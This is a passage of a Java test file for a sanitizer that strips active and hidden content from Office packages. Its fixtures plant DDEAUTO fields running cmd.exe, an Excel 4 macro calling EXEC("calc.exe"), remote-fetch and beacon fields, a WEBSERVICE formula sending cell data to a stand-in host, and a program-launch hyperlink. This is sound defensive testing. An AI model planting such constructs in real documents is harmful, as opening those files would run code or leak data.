package io.blackbar.format.office.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import io.blackbar.engine.api.EngineException;
import io.blackbar.engine.api.Method;

/**
 * What sanitize left in Office packages (the thirty-seventh review, findings 1-10, 17-23 and 26): parts found by their
 * relationship type or content type whatever their names, field codes that run or fetch, actions, add-ins, connections,
 * hidden text by style, notes, revision logs, paths and hashes. Each package is written here part by part, every
 * planted value a marker {@code MK…}; the output is read by {@link RawPackage} (java.util.zip, regular expressions over
 * the raw XML), which checks the marker is gone and the package still consistent.
 */
class OoxmlSanitizeTest {

    static final String CT = "http://schemas.openxmlformats.org/package/2006/content-types";
    static final String RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    static final String MS = "http://schemas.microsoft.com/office/2006/relationships/";
    static final String W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" "
            + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
    static final String S = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
            + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
    static final String P = "xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" "
            + "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" "
            + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
    static final String DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    static final String XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    static final String SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml";

    @TempDir
    Path dir;

    /** [Content_Types].xml with defaults (extension, type in turns) and overrides (part, type in turns). */
    static String types(List<String> defaults, String... overrides) {
        StringBuilder b = new StringBuilder("<?xml version=\"1.0\"?><Types xmlns=\"" + CT + "\">"
                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>");
        for (int i = 0; i + 1 < defaults.size(); i += 2) {
            b.append("<Default Extension=\"").append(defaults.get(i)).append("\" ContentType=\"").append(defaults.get(i + 1)).append("\"/>");
        }
        for (int i = 0; i + 1 < overrides.length; i += 2) {
            b.append("<Override PartName=\"").append(overrides[i]).append("\" ContentType=\"").append(overrides[i + 1]).append("\"/>");
        }
        return b.append("</Types>").toString();
    }

    /** A relationship of a full type URI. */
    static String rel(String id, String type, String target) {
        return "<Relationship Id=\"" + id + "\" Type=\"" + type + "\" Target=\"" + target + "\"/>";
    }

    static String rels(String... relationships) {
        return RawPackage.relationships(relationships);
    }

    static String word(String body) {
        return "<?xml version=\"1.0\"?><w:document " + W + "><w:body>" + body + "<w:sectPr/></w:body></w:document>";
    }

    /** Sanitizes the parts (text and binary) as a file of the given type, and reads the output back raw. */
    private Result sanitize(String type, Map<String, String> parts, Map<String, byte[]> binary) throws Exception {
        Path in = dir.resolve("in.bin");
        RawPackage.zip(in, parts, binary);
        OfficeRun.Output out = OfficeRun.run(OoxmlFormatHandler.notReadingPictures(), in, type, Method.SANITIZE, List.of(), "");
        RawPackage raw = new RawPackage(out.bytes());
        raw.assertConsistent();
        return new Result(raw, out.removed());
    }

    private record Result(RawPackage raw, Map<String, Integer> removed) {
        void gone(String... markers) {
            for (String m : markers) {
                raw.assertGone(m);
            }
        }

        int count(String key) {
            return removed.getOrDefault(key, 0);
        }
    }

    /** Finding 1: ActiveX controls, OLE objects and packages outside {@code activeX/} and {@code embeddings/}. */
    @Test
    void activeXOleObjectsAndPackagesGoWhateverTheirNames() throws Exception {
        Map<String, String> p = new LinkedHashMap<>();
        p.put("[Content_Types].xml", types(List.of("bin", "application/vnd.openxmlformats-officedocument.oleObject"),
                "/word/document.xml", DOCX_MAIN, "/word/controls/control1.xml", "application/vnd.ms-office.activeX+xml",
                "/word/objects/pkg.docm", "application/vnd.ms-word.document.macroEnabled.12"));
        p.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "word/document.xml")));
        p.put("word/document.xml", word("<w:p><w:r><w:t>Visible text</w:t></w:r></w:p>"
                + "<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" Type=\"Embed\" ProgID=\"Package\" r:id=\"rOle\"/></w:object></w:r></w:p>"
                + "<w:p><w:r><w:object><w:control r:id=\"rAx\" w:name=\"CommandButton1\"/></w:object></w:r></w:p>"
                + "<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" Type=\"Embed\" ProgID=\"Word.Document.12\" r:id=\"rPkg\"/></w:object></w:r></w:p>"));
        p.put("word/_rels/document.xml.rels", rels(rel("rOle", RT + "oleObject", "objects/oleObject1.bin"),
                rel("rAx", RT + "control", "controls/control1.xml"), rel("rPkg", RT + "package", "objects/pkg.docm")));
        p.put("word/controls/control1.xml", "<?xml version=\"1.0\"?><ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" "
                + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" ax:classid=\"{D7053240-CE69-11CD-A777-00DD01143C57}\" r:id=\"rId1\"/>");
        p.put("word/controls/_rels/control1.xml.rels", rels(rel("rId1", MS + "activeXControlBinary", "control1.bin")));
        Result r = sanitize(OoxmlFormatHandler.DOCX, p, Map.of("word/objects/oleObject1.bin", "MKOLEPACKAGE payload.exe".getBytes(StandardCharsets.UTF_8),
                "word/controls/control1.bin", "MKACTIVEXBIN".getBytes(StandardCharsets.UTF_8),
                "word/objects/pkg.docm", "PK\u0003\u0004MKEMBEDDEDDOCM".getBytes(StandardCharsets.UTF_8)));
        r.gone("MKOLEPACKAGE", "MKACTIVEXBIN", "MKEMBEDDEDDOCM", "CommandButton1");
        assertFalse(r.raw.parts.containsKey("word/controls/control1.xml"));
        assertTrue(r.raw.text("word/document.xml").contains("Visible text"));
        assertEquals(4, r.count("embeddedObjects"), r.removed.toString()); // the control's binary is one of its own kind
    }

    /** Finding 2: an Excel 4 macro sheet, between two worksheets, and its {@code Auto_Open} name. */
    @Test
    void excel4MacroSheetsGoWithTheirAutoOpenName() throws Exception {
        Map<String, String> p = new LinkedHashMap<>();
        p.put("[Content_Types].xml", types(List.of(), "/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                "/xl/worksheets/sheet1.xml", SHEET, "/xl/worksheets/sheet2.xml", SHEET,
                "/xl/macrosheets/sheet3.xml", "application/vnd.ms-excel.macrosheet+xml"));
        p.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "xl/workbook.xml")));
        p.put("xl/workbook.xml", "<?xml version=\"1.0\"?><workbook " + S + "><bookViews><workbookView activeTab=\"2\"/></bookViews><sheets>"
                + "<sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"Macro1\" sheetId=\"3\" r:id=\"rId3\"/>"
                + "<sheet name=\"Totals\" sheetId=\"2\" r:id=\"rId2\"/></sheets><definedNames>"
                + "<definedName name=\"Auto_Open\" localSheetId=\"1\">Macro1!$A$1</definedName>"
                + "<definedName name=\"Auto_Open_MKSECOND\">Data!$A$1</definedName>"
                + "<definedName name=\"_xlnm.Print_Area\" localSheetId=\"2\">Totals!$A$1:$B$2</definedName></definedNames></workbook>");
        p.put("xl/_rels/workbook.xml.rels", rels(rel("rId1", RT + "worksheet", "worksheets/sheet1.xml"),
                rel("rId2", RT + "worksheet", "worksheets/sheet2.xml"), rel("rId3", MS + "xlMacrosheet", "macrosheets/sheet3.xml")));
        p.put("xl/worksheets/sheet1.xml", "<?xml version=\"1.0\"?><worksheet " + S + "><sheetData/></worksheet>");
        p.put("xl/worksheets/sheet2.xml", "<?xml version=\"1.0\"?><worksheet " + S + "><sheetData/></worksheet>");
        p.put("xl/macrosheets/sheet3.xml", "<?xml version=\"1.0\"?><xm:macrosheet " + S + " xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\">"
                + "<sheetData><row r=\"1\"><c r=\"A1\" t=\"str\"><f>EXEC(\"calc.exe MKXLMMACRO\")</f><v>0</v></c></row></sheetData></xm:macrosheet>");
        Result r = sanitize(OoxmlFormatHandler.XLSM, p, Map.of());
        r.gone("MKXLMMACRO", "Auto_Open", "MKSECOND", "Macro1");
        String wb = r.raw.text("xl/workbook.xml");
        assertTrue(wb.matches("(?s).*<definedName[^>]*localSheetId=\"1\"[^>]*>Totals!\\$A\\$1:\\$B\\$2<.*"),
                "the print area of the third sheet, now the second: " + wb);
        assertTrue(wb.contains("activeTab=\"1\""), wb);
        assertFalse(r.raw.text("[Content_Types].xml").contains("macro"));
        assertEquals(3, r.count("macros"), r.removed.toString());
    }

    /** Finding 3: a VBA project under another name, key bindings and toolbars; in Word and in Excel. */
    @Test
    void aVbaProjectUnderAnyNameGoesWithKeyBindingsAndToolbars() throws Exception {
        Map<String, String> p = new LinkedHashMap<>();
        p.put("[Content_Types].xml", types(List.of("dat", "application/vnd.ms-office.vbaProject"),
                "/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml",
                "/word/keyMapCustomizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml",
                "/word/attachedToolbars.bin", "application/vnd.ms-word.attachedToolbars"));
        p.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "word/document.xml")));
        p.put("word/document.xml", word("<w:p><w:r><w:t>Visible text</w:t></w:r></w:p>"));
        p.put("word/_rels/document.xml.rels", rels(rel("rIdV", MS + "vbaProject", "macrostore.dat"),
                rel("rIdK", MS + "keyMapCustomizations", "keyMapCustomizations.xml"), rel("rIdT", MS + "attachedToolbars", "attachedToolbars.bin")));
        p.put("word/keyMapCustomizations.xml", "<?xml version=\"1.0\"?><wne:tcg xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\">"
                + "<wne:keymaps><wne:keymap wne:kcmPrimary=\"0441\"><wne:macro wne:macroName=\"MKKEYMAPMACRO\"/></wne:keymap></wne:keymaps></wne:tcg>");
        Result r = sanitize(OoxmlFormatHandler.DOCM, p, Map.of("word/macrostore.dat", "MKVBAMACROUNDERODDNAME AutoOpen".getBytes(StandardCharsets.UTF_8),
                "word/attachedToolbars.bin", "MKATTACHEDTOOLBARS".getBytes(StandardCharsets.UTF_8)));
        r.gone("MKVBAMACROUNDERODDNAME", "MKKEYMAPMACRO", "MKATTACHEDTOOLBARS", "vbaProject", "macroEnabled");
        assertEquals(3, r.count("macros"), r.removed.toString());

        Map<String, String> x = new LinkedHashMap<>();
        x.put("[Content_Types].xml", types(List.of("bin", "application/vnd.ms-office.vbaProject"),
                "/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "/xl/worksheets/sheet1.xml", SHEET));
        x.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "xl/workbook.xml")));
        x.put("xl/workbook.xml", "<?xml version=\"1.0\"?><workbook " + S + "><sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>");
        x.put("xl/_rels/workbook.xml.rels", rels(rel("rId1", RT + "worksheet", "worksheets/sheet1.xml"), rel("rId6", MS + "vbaProject", "code.bin")));
        x.put("xl/worksheets/sheet1.xml", "<?xml version=\"1.0\"?><worksheet " + S + "><sheetData/></worksheet>");
        Result xl = sanitize(OoxmlFormatHandler.XLSM, x, Map.of("xl/code.bin", "MKVBAODDNAMEXL Workbook_Open".getBytes(StandardCharsets.UTF_8)));
        xl.gone("MKVBAODDNAMEXL", "vbaProject");
        assertEquals(1, xl.count("macros"));
    }

    /**
     * Findings 4 and 9: fields that start a program ({@code DDEAUTO}) or fetch a picture or a document from the web or a
     * UNC path ({@code INCLUDEPICTURE}, {@code INCLUDETEXT}), one whose name is made by a nested field; the result a
     * field showed stays, and so does a hyperlink field.
     */
    @Test
    void fieldsThatRunOrFetchLoseTheirInstructionAndKeepTheirResult() throws Exception {
        String begin = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
        String separate = "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>";
        String end = "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
        Map<String, String> p = new LinkedHashMap<>();
        p.put("[Content_Types].xml", types(List.of(), "/word/document.xml", DOCX_MAIN));
        p.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "word/document.xml")));
        p.put("word/document.xml", word("<w:p><w:r><w:t>Visible text</w:t></w:r></w:p>"
                + "<w:p>" + begin + "<w:r><w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r><w:r><w:instrText xml:space=\"preserve\">AUTO "
                + "c:\\\\windows\\\\system32\\\\cmd.exe \"/k MKDDECALC\" </w:instrText></w:r>" + end + "</w:p>"
                + "<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;http://MKBEACON.example/x.png&quot; \\d \"><w:r><w:t>MKPICTURERESULT</w:t></w:r></w:fldSimple></w:p>"
                + "<w:p>" + begin + "<w:r><w:instrText xml:space=\"preserve\"> includetext \"\\\\\\\\MKUNCHOST\\\\share\\\\f.docx\" </w:instrText></w:r>"
                + separate + "<w:r><w:t>MKFETCHEDRESULT</w:t></w:r>" + end + "</w:p>"
                + "<w:p>" + begin + begin + "<w:r><w:instrText> QUOTE \"DDE\" </w:instrText></w:r>" + end
                + "<w:r><w:instrText xml:space=\"preserve\"> cmd.exe \"/c MKNESTEDNAME\" </w:instrText></w:r>" + end + "</w:p>"
                + "<w:p>" + begin + "<w:r><w:instrText xml:space=\"preserve\"> HYPERLINK \"https://example.org/MKKEPTLINK\" </w:instrText></w:r>"
                + separate + "<w:r><w:t>link</w:t></w:r>" + end + "</w:p>"));
        Result r = sanitize(OoxmlFormatHandler.DOCX, p, Map.of());
        r.gone("MKDDECALC", "MKBEACON", "MKUNCHOST", "MKNESTEDNAME", "INCLUDE", "DDE");
        String doc = r.raw.text("word/document.xml");
        for (String kept : List.of("MKPICTURERESULT", "MKFETCHEDRESULT", "MKKEPTLINK", "Visible text")) {
            assertTrue(doc.contains(kept), kept);
        }
        assertEquals(doc.split("fldCharType=\"begin\"", -1).length - 1, doc.split("fldCharType=\"end\"", -1).length - 1,
                "field characters stay balanced: " + doc);
        assertEquals(4, r.count("fields"), r.removed.toString());
    }

    /** Finding 6: a shape whose click starts a program; a plain hyperlink stays. */
    @Test
    void programActionsGoWithTheirRelationship() throws Exception {
        Map<String, String> p = new LinkedHashMap<>();
        p.put("[Content_Types].xml", types(List.of(),
                "/ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
                "/ppt/slides/slide1.xml", "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"));
        p.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "ppt/presentation.xml")));
        p.put("ppt/presentation.xml", "<?xml version=\"1.0\"?><p:presentation " + P + "><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId1\"/></p:sldIdLst></p:presentation>");
        p.put("ppt/_rels/presentation.xml.rels", rels(rel("rId1", RT + "slide", "slides/slide1.xml")));
        p.put("ppt/slides/slide1.xml", "<?xml version=\"1.0\"?><p:sld " + P + "><p:cSld><p:spTree>"
                + shape(2, "run me", "<a:hlinkClick r:id=\"rIdJ\" action=\"ppaction://program\"/>", false)
                + shape(3, "macro", "<a:hlinkHover r:id=\"\" action=\"ppaction://macro?name=MKMACROACTION\"/>", false)
                + shape(4, "read more", "<a:hlinkClick r:id=\"rIdH\"/>", false) + "</p:spTree></p:cSld></p:sld>");
        p.put("ppt/slides/_rels/slide1.xml.rels", rels("<Relationship Id=\"rIdJ\" Type=\"" + RT + "hyperlink\" "
                + "Target=\"file:///C:/Windows/System32/MKPROGRAMLAUNCH.exe\" TargetMode=\"External\"/>",
                "<Relationship Id=\"rIdH\" Type=\"" + RT + "hyperlink\" Target=\"https://example.org/MKKEPTLINK\" TargetMode=\"External\"/>"));
        Result r = sanitize(OoxmlFormatHandler.PPTX, p, Map.of());
        r.gone("MKPROGRAMLAUNCH", "ppaction://program", "MKMACROACTION");
        assertTrue(r.raw.text("ppt/slides/_rels/slide1.xml.rels").contains("MKKEPTLINK"));
        assertTrue(r.raw.text("ppt/slides/slide1.xml").contains("run me"));
        assertEquals(2, r.count("actions"), r.removed.toString());
    }

    static String shape(int id, String text, String inName, boolean hidden) {
        return "<p:sp><p:nvSpPr><p:cNvPr id=\"" + id + "\" name=\"s" + id + "\"" + (hidden ? " hidden=\"1\"" : "") + ">" + inName
                + "</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>" + text
                + "</a:t></a:r></a:p></p:txBody></p:sp>";
    }

    /** Findings 7, 8, 17 and 21: add-ins, an imported HTML chunk, properties and thumbnail elsewhere, custom XML, glossary. */
    @Test
    void addInsImportedChunksPropertiesCustomXmlAndGlossaryGoWhateverTheirNames() throws Exception {
        Map<String, String> p = new LinkedHashMap<>();
        p.put("[Content_Types].xml", types(List.of("htm", "text/html", "jpeg", "image/jpeg", "sigs",
                "application/vnd.openxmlformats-package.digital-signature-origin"),
                "/word/document.xml", DOCX_MAIN,
                "/word/glossary/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml",
                "/word/webextensions/webextension1.xml", "application/vnd.ms-office.webextension+xml",
                "/word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml",
                "/props/core.xml", "application/vnd.openxmlformats-package.core-properties+xml",
                "/customXml/itemProps1.xml", "application/vnd.openxmlformats-officedocument.customXmlProperties+xml",
                "/_xmlsignatures/sig1.xml", "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml"));
        p.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "word/document.xml"),
                rel("rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "props/core.xml"),
                rel("rId4", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail", "thumb.jpeg"),
                rel("rId5", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs"),
                rel("rId6", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml")));
        p.put("props/core.xml", "<?xml version=\"1.0\"?><cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" "
                + "xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:creator>MKCORECREATOR</dc:creator></cp:coreProperties>");
        p.put("word/document.xml", word("<w:p><w:r><w:t>Visible text</w:t></w:r></w:p><w:altChunk r:id=\"rIdAlt\"/>"
                + "<w:sdt><w:sdtPr><w:dataBinding w:xpath=\"/employee/name\" w:storeItemID=\"{11111111-2222-3333-4444-555555555555}\"/></w:sdtPr>"
                + "<w:sdtContent><w:p><w:r><w:t>bound</w:t></w:r></w:p></w:sdtContent></w:sdt>"));
        p.put("word/_rels/document.xml.rels", rels(rel("rIdG", RT + "glossaryDocument", "glossary/document.xml"),
                rel("rIdX", RT + "customXml", "../customXml/item1.xml"), rel("rIdAlt", RT + "aFChunk", "chunk.htm")));
        p.put("word/glossary/document.xml", "<?xml version=\"1.0\"?><w:glossaryDocument " + W + "><w:docParts><w:docPart><w:docPartBody>"
                + "<w:p><w:r><w:t>MKGLOSSARY</w:t></w:r></w:p></w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>");
        p.put("word/glossary/_rels/document.xml.rels", rels(rel("rId1", RT + "styles", "styles.xml")));
        p.put("word/glossary/styles.xml", "<?xml version=\"1.0\"?><w:styles " + W + "><w:style w:styleId=\"MKGLOSSARYSTYLE\"/></w:styles>");
        p.put("customXml/item1.xml", "<?xml version=\"1.0\"?><employee><name>MKCUSTOMXMLDATA</name></employee>");
        p.put("customXml/_rels/item1.xml.rels", rels(rel("rId1", RT + "customXmlProps", "itemProps1.xml")));
        p.put("customXml/itemProps1.xml", "<?xml version=\"1.0\"?><ds:datastoreItem ds:itemID=\"{11111111-2222-3333-4444-555555555555}\" "
                + "xmlns:ds=\"http://schemas.openxmlformats.org/officeDocument/2006/customXml\"><ds:schemaRefs><ds:schemaRef ds:uri=\"urn:MKCXSCHEMA\"/>"
                + "</ds:schemaRefs></ds:datastoreItem>");
        p.put("word/webextensions/taskpanes.xml", "<?xml version=\"1.0\"?><wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\" "
                + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><wetp:taskpane visibility=\"1\"><wetp:webextensionref r:id=\"rId1\"/>"
                + "</wetp:taskpane></wetp:taskpanes>");
        p.put("word/webextensions/_rels/taskpanes.xml.rels", rels(rel("rId1", "http://schemas.microsoft.com/office/2011/relationships/webextension", "webextension1.xml")));
        p.put("word/webextensions/webextension1.xml", "<?xml version=\"1.0\"?><we:webextension xmlns:we=\"http://schemas.microsoft.com/office/webextensions/webextension/2010/11\" id=\"{A}\">"
                + "<we:reference id=\"wa1\" version=\"1.0\" store=\"https://MKWEBEXTSTORE.example/\" storeType=\"Url\"/>"
                + "<we:properties><we:property name=\"token\" value=\"MKWEBEXTPROP\"/></we:properties></we:webextension>");
        p.put("word/chunk.htm", "<html><body><p>MKALTCHUNKTEXT</p><script>alert(\"MKALTCHUNKJS\")</script></body></html>");
        p.put("_xmlsignatures/_rels/origin.sigs.rels", rels(rel("rId1", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/signature", "sig1.xml")));
        p.put("_xmlsignatures/sig1.xml", "<?xml version=\"1.0\"?><Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\"><KeyInfo><X509Data>"
                + "<X509SubjectName>CN=MKSIGNERNAME</X509SubjectName></X509Data></KeyInfo></Signature>");
        Result r = sanitize(OoxmlFormatHandler.DOCX, p, Map.of("thumb.jpeg", jpegWithComment("MKTHUMBNAIL"), "_xmlsignatures/origin.sigs", new byte[0]));
        r.gone("MKCORECREATOR", "MKGLOSSARY", "MKCUSTOMXMLDATA", "MKCXSCHEMA", "MKWEBEXTSTORE", "MKWEBEXTPROP", "MKALTCHUNKTEXT",
                "MKALTCHUNKJS", "MKSIGNERNAME", "altChunk", "dataBinding", "webextension", "thumbnail");
        assertFalse(r.raw.parts.containsKey("thumb.jpeg"));
        assertTrue(r.raw.text("word/document.xml").contains("bound"), "the bound control keeps its text");
        // core properties, thumbnail, the custom XML item and its properties; the glossary (its styles go with it)
        assertEquals(4, r.count("metadata"), r.removed.toString());
        assertEquals(1, r.count("hiddenParts"), r.removed.toString());
        assertEquals(2, r.count("addIns"), r.removed.toString());
        assertEquals(2, r.count("signatures"), r.removed.toString());
        assertEquals(1, r.count("embeddedObjects"), r.removed.toString());
    }

    /** A JPEG of a single comment segment (enough for a part that is removed whole). */
    static byte[] jpegWithComment(String comment) {
        byte[] c = comment.getBytes(StandardCharsets.US_ASCII);
        byte[] b = new byte[6 + c.length + 2];
        b[0] = (byte) 0xFF;
        b[1] = (byte) 0xD8;
        b[2] = (byte) 0xFF;
        b[3] = (byte) 0xFE;
        b[4] = 0;
        b[5] = (byte) (c.length + 2);
        System.arraycopy(c, 0, b, 6, c.length);
        b[b.length - 2] = (byte) 0xFF;
        b[b.length - 1] = (byte) 0xD9;
        return b;
    }

    /** Finding 18: runs hidden by a character style or by their paragraph's style (through basedOn too). */
    @Test
    void textHiddenByAStyleGoes() throws Exception {
        Map<String, String> p = new LinkedHashMap<>();
        p.put("[Content_Types].xml", types(List.of(), "/word/document.xml", DOCX_MAIN,
                "/word/styles.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"));
        p.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "word/document.xml")));
        p.put("word/_rels/document.xml.rels", rels(rel("rIdS", RT + "styles", "styles.xml")));
        p.put("word/styles.xml", "<?xml version=\"1.0\"?><w:styles " + W + ">"
                + "<w:style w:type=\"paragraph\" w:default=\"1\" w:styleId=\"Normal\"><w:name w:val=\"Normal\"/></w:style>"
                + "<w:style w:type=\"character\" w:styleId=\"HiddenChar\"><w:rPr><w:vanish/></w:rPr></w:style>"
                + "<w:style w:type=\"paragraph\" w:styleId=\"HiddenPara\"><w:rPr><w:vanish/></w:rPr></w:style>"
                + "<w:style w:type=\"paragraph\" w:styleId=\"HiddenChild\"><w:basedOn w:val=\"HiddenPara\"/></w:style></w:styles>");
        p.put("word/document.xml", word("<w:p><w:r><w:t>Visible text</w:t></w:r><w:r><w:rPr><w:rStyle w:val=\"HiddenChar\"/></w:rPr><w:t>MKSTYLEHIDDEN</w:t></w:r></w:p>"
                + "<w:p><w:pPr><w:pStyle w:val=\"HiddenPara\"/></w:pPr><w:r><w:t>MKPARASTYLEHIDDEN</w:t></w:r>"
                + "<w:r><w:rPr><w:vanish w:val=\"0\"/></w:rPr><w:t>shown again</w:t></w:r></w:p>"
                + "<w:p><w:pPr><w:pStyle w:val=\"HiddenChild\"/></w:pPr><w:r><w:t>MKBASEDONHIDDEN</w:t></w:r></w:p>"));
        Result r = sanitize(OoxmlFormatHandler.DOCX, p, Map.of());
        r.gone("MKSTYLEHIDDEN", "MKPARASTYLEHIDDEN", "MKBASEDONHIDDEN");
        String doc = r.raw.text("word/document.xml");
        assertTrue(doc.contains("Visible text") && doc.contains("shown again"), doc);
        assertEquals(3, r.count("hiddenText"), r.removed.toString());
    }

    /**
     * Findings 10, 19, 20 and 23: a connection's password and query, a formula that calls a web service, the shared
     * workbook's revision log, an external link under another name, the saving path, the document id, the pivot cache's
     * records and a string no cell uses.
     */
    @Test
    void workbookConnectionsRevisionsLinksPathsAndStaleDataGo() throws Exception {
        Map<String, String> p = new LinkedHashMap<>();
        p.put("[Content_Types].xml", types(List.of(), "/xl/workbook.xml", XLSX_MAIN, "/xl/worksheets/sheet1.xml", SHEET,
                "/xl/sharedStrings.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
                "/xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
                "/xl/calcChain.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml",
                "/xl/pivotCache/pivotCacheDefinition1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml",
                "/xl/pivotCache/pivotCacheRecords1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheRecords+xml",
                "/xl/revisions/revisionHeaders.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.revisionHeaders+xml",
                "/xl/revisions/revisionLog1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.revisionLog+xml",
                "/xl/extdata.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"));
        p.put("_rels/.rels", rels(rel("rId1", RT + "officeDocument", "xl/workbook.xml")));
        p.put("xl/workbook.xml", "<?xml version=\"1.0\"?><workbook " + S + " xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" "
                + "xmlns:x15ac=\"http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac\" xmlns:xr=\"http://schemas.microsoft.com/office/spreadsheetml/2014/revision\" "
                + "mc:Ignorable=\"x15ac xr\"><mc:AlternateContent><mc:Choice Requires=\"x15\"><x15ac:absPath url=\"C:\\Users\\MKABSPATHUSER\\Documents\\\"/>"
                + "</mc:Choice></mc:AlternateContent><xr:revisionPtr revIDLastSave=\"0\" documentId=\"13_ncr:1_{MKDOCUMENTID}\"/>"
                + "<sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/></sheets><externalReferences><externalReference r:id=\"rId10\"/></externalReferences>"
                + "<pivotCaches><pivotCache cacheId=\"1\" r:id=\"rId7\"/></pivotCaches></workbook>");
        p.put("xl/_rels/workbook.xml.rels", rels(rel("rId1", RT + "worksheet", "worksheets/sheet1.xml"), rel("rId4", RT + "sharedStrings", "sharedStrings.xml"),
                rel("rId5", RT + "connections", "connections.xml"), rel("rId6", RT + "calcChain", "calcChain.xml"),
                rel("rId7", RT + "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml"),
                rel("rId8", RT + "revisionHeaders", "revisions/revisionHeaders.xml"), rel("rId10", RT + "externalLink", "extdata.xml")));
        p.put("xl/worksheets/sheet1.xml", "<?xml version=\"1.0\"?><worksheet " + S + "><sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c>"
                + "<c r=\"B1\" t=\"str\"><f>_xlfn.WEBSERVICE(\"http://MKWEBSERVICE.example/?\"&amp;A1)</f><v>cached</v></c><c r=\"C1\"><f>1+1</f><v>2</v></c></row></sheetData></worksheet>");
        p.put("xl/sharedStrings.xml", "<?xml version=\"1.0\"?><sst " + S + " count=\"2\" uniqueCount=\"2\"><si><t>shown</t></si><si><t>MKSTALESHAREDSTRING</t></si></sst>");
        p.put("xl/calcChain.xml", "<?xml version=\"1.0\"?><calcChain " + S + "><c r=\"B1\" i=\"1\"/><c r=\"C1\"/></calcChain>");
        p.put("xl/connections.xml", "<?xml version=\"1.0\"?><connections " + S + "><connection id=\"1\" name=\"q\" type=\"1\" savePassword=\"1\" refreshOnLoad=\"1\">"
